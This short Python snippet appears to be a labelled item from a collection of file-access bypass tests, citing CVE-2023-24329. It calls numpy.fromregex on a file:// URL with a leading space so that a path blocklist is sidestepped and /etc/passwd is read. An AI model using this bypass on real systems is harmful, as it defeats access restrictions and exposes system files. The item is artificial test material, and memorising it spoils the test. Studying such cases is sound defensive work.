# source: CVE-2023-24329 (urllib.parse strips leading C0/space; bypasses scheme blocklists) + pandas-dev/pandas#970 (readers accept file:// URLs)
# family: URL with leading whitespace/control char: check treats literal as relative path, pandas is_url() sees file:// (numpy fromregex)
# goal: read /etc/passwd
import numpy as np
print(np.fromregex(" file://localhost/etc/passwd", r"(.*)", [("line", "U200")]))
